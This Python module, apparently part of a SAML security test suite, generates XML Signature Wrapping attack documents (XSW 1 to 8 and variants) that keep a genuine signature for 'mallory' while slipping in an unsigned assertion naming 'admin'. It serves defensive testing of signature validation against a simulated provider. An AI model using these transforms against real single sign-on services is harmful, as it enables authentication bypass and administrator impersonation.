"""Signature wrapping: documents that hold a real signature beside what the attacker wrote.

XSW 1 to 8 as in "On Breaking SAML" (Somorovsky et al., USENIX Security 2012) and SAML Raider,
and variants of them. Each takes an answer that the provider really signed for `mallory` and
makes it speak of `admin` somewhere.
"""

from __future__ import annotations

import copy
from collections.abc import Callable

from lxml import etree

from saml_cases.workshop import ADMIN, MALLORY, Hostile, Workshop
from simulators.saml_signing import DS, SAML, SAMLP, new_id

Wrap = Callable[[str], str]


def _root(xml: str) -> etree._Element:
    return etree.fromstring(xml.encode())


def _text(root: etree._Element) -> str:
    return etree.tostring(root, encoding="unicode")


def _find(root: etree._Element, name: str, namespace: str = SAML) -> etree._Element:
    return next(root.iter(f"{{{namespace}}}{name}"))


def _signature(of: etree._Element) -> etree._Element:
    return next(child for child in of if child.tag == f"{{{DS}}}Signature")


def _evil(element: etree._Element, *, same_id: bool = False) -> etree._Element:
    """A copy without its own signature, another ID, and another name in it."""
    evil = copy.deepcopy(element)
    for child in list(evil):
        if child.tag == f"{{{DS}}}Signature":
            evil.remove(child)
    if not same_id:
        evil.set("ID", new_id())
    for name in evil.iter(f"{{{SAML}}}NameID"):
        name.text = ADMIN
    return evil


def _without_signature(element: etree._Element) -> etree._Element:
    plain = copy.deepcopy(element)
    plain.remove(_signature(plain))
    return plain


def xsw_1(response_signed: str) -> str:
    """The evil Response is the root; the original stands inside the signature."""
    root = _root(response_signed)
    evil = _evil(root)
    signature = copy.deepcopy(_signature(root))
    signature.append(_without_signature(root))
    evil.insert(1, signature)
    return _text(evil)


def xsw_2(response_signed: str) -> str:
    """The evil Response is the root; the original stands before the signature."""
    root = _root(response_signed)
    evil = _evil(root)
    evil.insert(1, _without_signature(root))
    evil.insert(2, copy.deepcopy(_signature(root)))
    return _text(evil)


def xsw_3(assertion_signed: str) -> str:
    """The evil Assertion stands before the original."""
    root = _root(assertion_signed)
    original = _find(root, "Assertion")
    root.insert(root.index(original), _evil(original))
    return _text(root)


def xsw_3_behind(assertion_signed: str) -> str:
    root = _root(assertion_signed)
    root.append(_evil(_find(root, "Assertion")))
    return _text(root)


def xsw_3_same_id(assertion_signed: str) -> str:
    root = _root(assertion_signed)
    original = _find(root, "Assertion")
    root.insert(root.index(original), _evil(original, same_id=True))
    return _text(root)


def xsw_4(assertion_signed: str) -> str:
    """The original Assertion is a child of the evil one."""
    root = _root(assertion_signed)
    original = _find(root, "Assertion")
    evil = _evil(original)
    root.replace(original, evil)
    evil.append(original)
    return _text(root)


def xsw_5(assertion_signed: str) -> str:
    """The signature stays in the evil Assertion, the original goes to the end."""
    root = _root(assertion_signed)
    original = _find(root, "Assertion")
    evil = _evil(original)
    evil.insert(1, copy.deepcopy(_signature(original)))
    root.replace(original, evil)
    root.append(_without_signature(original))
    return _text(root)


def xsw_6(assertion_signed: str) -> str:
    """The signature stays in the evil Assertion, the original goes into the signature."""
    root = _root(assertion_signed)
    original = _find(root, "Assertion")
    evil = _evil(original)
    signature = copy.deepcopy(_signature(original))
    signature.append(_without_signature(original))
    evil.insert(1, signature)
    root.replace(original, evil)
    return _text(root)


def xsw_7(assertion_signed: str) -> str:
    """The evil Assertion hides in Extensions."""
    root = _root(assertion_signed)
    extensions = etree.Element(f"{{{SAMLP}}}Extensions")
    extensions.append(_evil(_find(root, "Assertion")))
    root.insert(1, extensions)
    return _text(root)


def xsw_7_original_hidden(assertion_signed: str) -> str:
    root = _root(assertion_signed)
    original = _find(root, "Assertion")
    evil = _evil(original, same_id=True)
    root.replace(original, evil)
    extensions = etree.Element(f"{{{SAMLP}}}Extensions")
    extensions.append(original)
    root.insert(1, extensions)
    return _text(root)


def xsw_8(assertion_signed: str) -> str:
    """The original Assertion stands in an Object of the evil one's signature."""
    root = _root(assertion_signed)
    original = _find(root, "Assertion")
    evil = _evil(original)
    signature = copy.deepcopy(_signature(original))
    etree.SubElement(signature, f"{{{DS}}}Object").append(_without_signature(original))
    evil.insert(1, signature)
    root.replace(original, evil)
    return _text(root)


def xsw_8_same_id(assertion_signed: str) -> str:
    root = _root(assertion_signed)
    original = _find(root, "Assertion")
    evil = _evil(original, same_id=True)
    signature = copy.deepcopy(_signature(original))
    etree.SubElement(signature, f"{{{DS}}}Object").append(_without_signature(original))
    evil.insert(1, signature)
    root.replace(original, evil)
    return _text(root)


def in_status_detail(assertion_signed: str) -> str:
    """The original is moved into StatusDetail, the evil one takes its place."""
    root = _root(assertion_signed)
    original = _find(root, "Assertion")
    root.replace(original, _evil(original))
    status = _find(root, "Status", SAMLP)
    etree.SubElement(status, f"{{{SAMLP}}}StatusDetail").append(original)
    return _text(root)


def in_advice(assertion_signed: str) -> str:
    """The original is evidence in the evil one's Advice."""
    root = _root(assertion_signed)
    original = _find(root, "Assertion")
    evil = _evil(original)
    root.replace(original, evil)
    advice = etree.Element(f"{{{SAML}}}Advice")
    advice.append(original)
    evil.insert(3, advice)
    return _text(root)


def in_foreign_element(assertion_signed: str) -> str:
    root = _root(assertion_signed)
    original = _find(root, "Assertion")
    root.replace(original, _evil(original))
    etree.SubElement(root, "{urn:evil}Box").append(original)
    return _text(root)


def foreign_namespace(assertion_signed: str) -> str:
    """An evil Assertion in another namespace, for a reader that looks at local names."""
    root = _root(assertion_signed)
    evil = _evil(_find(root, "Assertion"))
    evil.tag = "{urn:evil}Assertion"
    root.insert(1, evil)
    return _text(root)


def response_in_response(response_signed: str) -> str:
    """The signed Response inside an unsigned one that has no assertion of its own."""
    root = _root(response_signed)
    outer = copy.deepcopy(root)
    for child in list(outer):
        outer.remove(child)
    outer.set("ID", new_id())
    outer.append(root)
    return _text(outer)


def signature_moved_up(assertion_signed: str) -> str:
    """The Assertion's signature becomes the Response's."""
    root = _root(assertion_signed)
    original = _find(root, "Assertion")
    signature = _signature(original)
    root.insert(1, signature)
    root.replace(original, _evil(original, same_id=True))
    return _text(root)


def signature_moved_down(assertion_signed: str) -> str:
    """The Assertion's signature is put into its Subject."""
    root = _root(assertion_signed)
    original = _find(root, "Assertion")
    _find(original, "Subject").append(_signature(original))
    return _text(root)


def two_signatures(assertion_signed: str) -> str:
    """The same signature twice in the Assertion."""
    root = _root(assertion_signed)
    original = _find(root, "Assertion")
    original.insert(1, copy.deepcopy(_signature(original)))
    return _text(root)


def _wrapped(wrap: Wrap, *, response: bool = False) -> Callable[[Workshop], str]:
    def make(workshop: Workshop) -> str:
        answer = workshop.answer(name_id=MALLORY)
        return wrap(workshop.idp.signed(answer, assertion=not response, response=response))

    return make


DOCUMENTS: Hostile = {
    "xsw_1": ("1", _wrapped(xsw_1, response=True)),
    "xsw_2": ("1", _wrapped(xsw_2, response=True)),
    "xsw_3": ("1", _wrapped(xsw_3)),
    "xsw_3_behind": ("1", _wrapped(xsw_3_behind)),
    "xsw_3_same_id": ("1", _wrapped(xsw_3_same_id)),
    "xsw_4": ("1", _wrapped(xsw_4)),
    "xsw_5": ("1", _wrapped(xsw_5)),
    "xsw_6": ("1", _wrapped(xsw_6)),
    "xsw_7": ("1", _wrapped(xsw_7)),
    "xsw_7_original_hidden": ("1", _wrapped(xsw_7_original_hidden)),
    "xsw_8": ("1", _wrapped(xsw_8)),
    "xsw_8_same_id": ("1", _wrapped(xsw_8_same_id)),
    "wrapped_in_status_detail": ("1", _wrapped(in_status_detail)),
    "wrapped_in_advice": ("1", _wrapped(in_advice)),
    "wrapped_in_a_foreign_element": ("1", _wrapped(in_foreign_element)),
    "evil_in_a_foreign_namespace": ("1", _wrapped(foreign_namespace)),
    "response_in_a_response": ("1", _wrapped(response_in_response, response=True)),
    "signature_moved_up": ("2", _wrapped(signature_moved_up)),
    "signature_moved_down": ("2", _wrapped(signature_moved_down)),
    "signature_twice": ("2", _wrapped(two_signatures)),
}
